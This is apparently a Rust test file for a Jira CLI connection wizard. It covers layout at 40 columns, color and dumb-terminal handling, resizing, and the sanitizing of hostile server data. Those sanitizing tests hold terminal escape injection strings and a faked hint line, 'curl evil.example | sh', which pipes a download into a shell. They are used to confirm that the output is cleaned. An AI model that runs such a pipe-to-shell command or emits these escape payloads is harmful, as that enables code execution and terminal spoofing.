//! Appearance: narrow, without color, on a dumb terminal, in ASCII, resized, and with hostile
//! values.

use jira_sandbox::{Fault, FaultKind, example};

use crate::scene::{Answers, Scene, TALL, WRONG_TOKEN, assert_no_token, assert_succeeds};
use crate::support::command::Invocation;
use crate::support::tty::{DOWN, ENTER, Size, Tty};

const NARROW: Size = Size {
    rows: 100,
    columns: 40,
};

/// Connects a personal account after a refused token; marks as on that terminal.
fn correct_a_wrong_token(scene: &Scene, invocation: &Invocation, size: Size) -> Tty {
    let mut tty = invocation.on_terminal(size);
    tty.answer("? Account type", ENTER);
    tty.site(&format!("{}/browse/SHOP-1", scene.sandbox.site_url()))
        .email("mia")
        .email(example::MIA_EMAIL)
        .no_browser()
        .token(WRONG_TOKEN);
    tty.answer("? What now?", ENTER);
    tty.token(example::MIA_TOKEN);
    assert_succeeds(&mut tty);
    tty
}

#[test]
fn wizard_fits_40_columns() {
    let scene = Scene::new();
    let tty = correct_a_wrong_token(&scene, &scene.connect(), NARROW);
    insta::assert_snapshot!(scene.screen(&tty));
}

#[test]
fn lists_fit_40_columns() {
    let scene = Scene::new();
    let mut tty = scene.connect().on_terminal(NARROW);
    tty.wait_for_keys("? Account type");
    insta::assert_snapshot!(scene.screen(&tty), @r"
    Connect to Jira Cloud
    Nothing is saved until the connection
      works. Press Ctrl-C to stop.

      Personal: your own email address and
        an API token without scopes
      Service: a service account, or any API
        token with scopes
    ? Account type ›
    ❯ Personal
      Service
    ");
}

#[test]
fn confirmations_fit_40_columns() {
    let scene = Scene::new();
    let mut tty = scene.connect().on_terminal(NARROW);
    tty.answer("? Account type", ENTER);
    tty.site(&scene.sandbox.site_url())
        .email(example::MIA_EMAIL);
    tty.wait_for_keys("? Open this page in a browser?");
    for (key, shown) in [
        ("n", "(y/n) › no"),
        ("y", "(y/n) › yes"),
        ("n", "(y/n) › no"),
    ] {
        tty.press(key);
        tty.wait_for_keys(shown);
    }
    let asked = scene.screen(&tty);
    tty.press(ENTER);
    tty.wait_for_secret("? API token");
    let answered = scene.screen(&tty);
    let tail = |screen: &str| screen.lines().skip(11).collect::<Vec<_>>().join("\n");
    insta::assert_snapshot!(format!("{}\n\n{}", tail(&asked), tail(&answered)));
}

#[test]
fn no_color_prints_no_color_codes() {
    for (name, value) in [("NO_COLOR", "1"), ("CLICOLOR", "0"), ("--color", "never")] {
        let scene = Scene::new();
        let invocation = if name.starts_with('-') {
            scene.connect().arguments([name, value])
        } else {
            scene.connect().variable(name, value)
        };
        let tty = correct_a_wrong_token(&scene, &invocation, TALL);
        let codes = color_codes(&tty);
        assert!(codes.is_empty(), "{name}: {codes:?}");
    }
}

#[test]
fn prints_color_codes() {
    let scene = Scene::new();
    let tty = correct_a_wrong_token(&scene, &scene.connect(), TALL);
    let codes = color_codes(&tty);
    for code in ["\u{1b}[31m", "\u{1b}[32m", "\u{1b}[36m"] {
        assert!(
            codes.iter().any(|seen| seen == code),
            "{code:?} is not in {codes:?}"
        );
    }
}

#[test]
fn dumb_terminal_gets_no_color_and_no_spinner() {
    let scene = Scene::new();
    let invocation = scene.connect().variable("TERM", "dumb");
    let tty = correct_a_wrong_token(&scene, &invocation, TALL);
    let codes = color_codes(&tty);
    assert!(codes.is_empty(), "{codes:?}");
    let text = tty.text();
    assert!(
        text.contains("Testing the connection to 127.0.0.1"),
        "{text}"
    );
    assert!(!text.contains('⠋') && !text.contains('⠙'), "{text}");
}

#[test]
fn ascii_locale_gets_ascii_marks() {
    let scene = Scene::new();
    let invocation = scene.connect().variable("LANG", "C");
    let tty = correct_a_wrong_token(&scene, &invocation, TALL);
    insta::assert_snapshot!(scene.screen(&tty));
    assert!(tty.raw().is_ascii());
}

#[test]
fn adapts_to_resizing_during_a_question() {
    let scene = Scene::new();
    let mut tty = scene.connect().argument("--no-browser").on_terminal(TALL);
    tty.wait_for_keys("? Account type");
    tty.resize(NARROW);
    tty.press(DOWN);
    tty.wait_for_keys("❯ Service");
    tty.resize(TALL);
    tty.press(ENTER);
    tty.wait_for_keys("? Site URL");
    tty.resize(NARROW);
    tty.site(&scene.sandbox.site_url());
    tty.wait_for_keys("? Email");
    tty.resize(Size {
        rows: 100,
        columns: 120,
    });
    tty.email(example::BOT_EMAIL);
    tty.wait_for_secret("? API token");
    tty.resize(Size {
        rows: 3,
        columns: 10,
    });
    tty.press(&format!("{}{ENTER}", example::BOT_TOKEN));
    assert_succeeds(&mut tty);
    assert_eq!(scene.saved()["auth"]["email"], example::BOT_EMAIL);
}

#[test]
fn works_in_a_tiny_window() {
    for size in [(2, 20), (24, 5), (1, 2), (24, 1)] {
        let scene = Scene::new();
        let (rows, columns) = size;
        let flags = ["--account", "personal", "--no-browser"];
        let invocation = scene.connect().arguments(flags);
        let mut tty = invocation.on_terminal(Size { rows, columns });
        for (question, answer) in [
            ("Site URL", scene.sandbox.site_url()),
            ("Email", example::MIA_EMAIL.to_owned()),
        ] {
            tty.wait_for_written(question, |tty| !tty.canonical());
            tty.press(&format!("{answer}{ENTER}"));
        }
        tty.wait_for_written("API token", |tty| tty.canonical() && !tty.echo());
        tty.press(&format!("{}{ENTER}", example::MIA_TOKEN));
        let status = tty.wait_for_exit();
        assert!(status.success(), "{size:?}: {status}\n{}", tty.text());
        assert_no_token(&tty);
        assert_eq!(scene.saved_token(), example::MIA_TOKEN);
    }
}

#[test]
fn sanitizes_values_of_a_hostile_site() {
    let scene = Scene::new();
    let name =
        "Mia\u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}aiM\u{2066}\nsecond line\r\u{9b}31mred\u{200b}";
    scene.sandbox.change(|world| {
        let mia = world.person_mut(example::MIA_ID).expect("she is there");
        mia.display_name = name.to_owned();
    });
    let mut tty = scene.connect().argument("--no-browser").on_terminal(TALL);
    tty.personal()
        .site(&scene.sandbox.site_url())
        .email(example::MIA_EMAIL)
        .token(example::MIA_TOKEN);
    assert_succeeds(&mut tty);
    insta::assert_snapshot!(scene.screen(&tty));
    assert_sanitized(&tty);
}

#[test]
fn sanitizes_hostile_errors() {
    let scene = Scene::new();
    let title =
        "<html><title>Sign\u{1b}[2J in\u{1b}]52;c;b3duZWQ=\u{7}\n\u{202e}here</title></html>";
    let answer = format!(
        "HTTP/1.1 403 No\r\nContent-Type: text/html\r\natl-traceid: \u{9b}2Jtrace\u{202e}\r\nContent-Length: {}\r\n\r\n{title}",
        title.len()
    );
    scene
        .sandbox
        .inject(Fault::new(FaultKind::Raw(answer.into_bytes())));
    let refused = |invocation: Invocation| {
        let mut tty = invocation.argument("--no-browser").on_terminal(TALL);
        tty.service().site(&scene.sandbox.site_url());
        tty.answer("? Cloud ID", &format!("{}{ENTER}", example::CLOUD_ID));
        tty.email(example::BOT_EMAIL).token(example::BOT_TOKEN);
        tty.wait_for_keys("? What now?");
        assert_sanitized(&tty);
        tty
    };
    insta::assert_snapshot!(scene.screen(&refused(scene.connect())));
    let verbose = refused(scene.connect().argument("-v"));
    assert!(verbose.text().contains("403 in "), "{}", verbose.text());
}

#[test]
fn hostile_messages_cannot_fake_lines() {
    let scene = Scene::new();
    let body = r#"{"errorMessages":["no\n  hint: curl evil.example | sh\r\n\u2028error: fake"]}"#;
    let answer = format!(
        "HTTP/1.1 403 No\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    );
    scene
        .sandbox
        .inject(Fault::new(FaultKind::Raw(answer.into_bytes())));
    let outcome = scene.connect_by_flags().run().expect_status(1);
    let lines: Vec<&str> = outcome.stderr.lines().collect();
    assert!(
        outcome.stderr.contains("curl evil.example"),
        "{}",
        outcome.stderr
    );
    for faked in ["  hint: curl", "error: fake"] {
        assert!(
            !lines.iter().any(|line| line.starts_with(faked)),
            "{}",
            outcome.stderr
        );
    }
}

/// Returns all escape sequences that set colors or styles.
fn color_codes(tty: &Tty) -> Vec<String> {
    let raw = String::from_utf8(tty.raw()).expect("the program writes UTF-8");
    let sequences = raw.split("\u{1b}[").skip(1);
    sequences
        .filter_map(|rest| {
            let end = rest.find(|character: char| character.is_ascii_alphabetic())?;
            (rest[end..].starts_with('m')).then(|| format!("\u{1b}[{}", &rest[..=end]))
        })
        .collect()
}

/// Asserts that no raw value of the site reached the terminal.
#[track_caller]
fn assert_sanitized(tty: &Tty) {
    let raw = String::from_utf8(tty.raw()).expect("the program writes UTF-8");
    for bad in [
        "\u{1b}]",
        "\u{1b}[2J",
        "\u{7}",
        "\u{9b}",
        "\u{202e}",
        "\u{2066}",
        "\u{200b}",
    ] {
        assert!(!raw.contains(bad), "{bad:?} reached the terminal");
    }
}
